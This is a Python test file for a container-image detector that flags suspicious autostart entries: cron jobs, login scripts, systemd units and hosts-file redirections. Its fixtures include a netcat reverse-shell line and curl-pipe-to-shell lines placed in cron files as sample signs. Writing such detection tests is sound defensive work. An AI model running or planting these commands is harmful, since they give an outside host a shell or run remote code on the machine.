"""Of what starts by itself only lines with a sign are kept, and nothing of other files."""

import pytest

from ocianalyze.detectors.autostart import NAME, OBSERVER, kind_of, signs
from tests.images import Layer, image


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("etc/cron.d/x", "cron job"),
        ("var/spool/cron/crontabs/root", "cron job"),
        ("home/x/.bashrc", "login script"),
        ("etc/systemd/system/x.service.d/o.conf", "unit"),
        ("usr/lib/modules/6.1/x.ko", "kernel module"),
        ("usr/lib/modules/6.1/modules.dep", ""),
        ("etc/passwd", ""),
        ("srv/etc/cron.d/x", ""),
    ],
)
def test_a_place_says_what_starts_a_file(path: str, kind: str) -> None:
    assert kind_of(path) == kind


def _told(path: str, text: bytes) -> list[tuple[int, str]]:
    layer: Layer = {path: text}
    found = image(layer, observers=(OBSERVER,)).tree.observations(NAME)
    return [(sign.line, sign.what) for _, value in found for sign in signs(value)]


def test_nothing_is_kept_of_a_file_without_a_sign() -> None:
    layer: Layer = {"etc/cron.d/x": b"@daily root true\n", "etc/hosts": b"127.0.0.1 localhost\n"}
    assert not list(image(layer, observers=(OBSERVER,)).tree.observations(NAME))


def test_lines_of_signs_are_told_in_their_order() -> None:
    text = b"x\nnc -e sh 10.0.0.1 1\n\ncurl -s a.example | sh\n"
    assert _told("etc/crontab", text) == [
        (2, "a shell answers a network"),
        (4, "a download is run by a shell"),
    ]


@pytest.mark.parametrize(
    ("line", "lines"),
    [
        (b"10.0.0.1 a.example", [1]),
        (b"2001:db8::1 a.example b.example", [1]),
        (b"127.0.0.1 a.example", []),
        (b"10.0.0.1 db", []),
        (b"10.0.0.1 x.localdomain", []),
        (b"# 10.0.0.1 a.example", []),
        (b"no-address a.example", []),
        (b"\xff\xfe a.example", []),
        (b"10.0.0.1", []),
    ],
)
def test_names_of_a_network_sent_elsewhere_are_signs(line: bytes, lines: list[int]) -> None:
    assert [number for number, _ in _told("etc/hosts", line + b"\n")] == lines


def test_a_long_file_is_read_to_a_bound() -> None:
    assert _told("etc/crontab", b"x " * 300_000 + b"\ncurl a.example | sh\n") == []


def test_a_kernel_module_is_not_read() -> None:
    assert _told("usr/lib/modules/6.1/x.ko", b"curl a.example | sh\n") == []
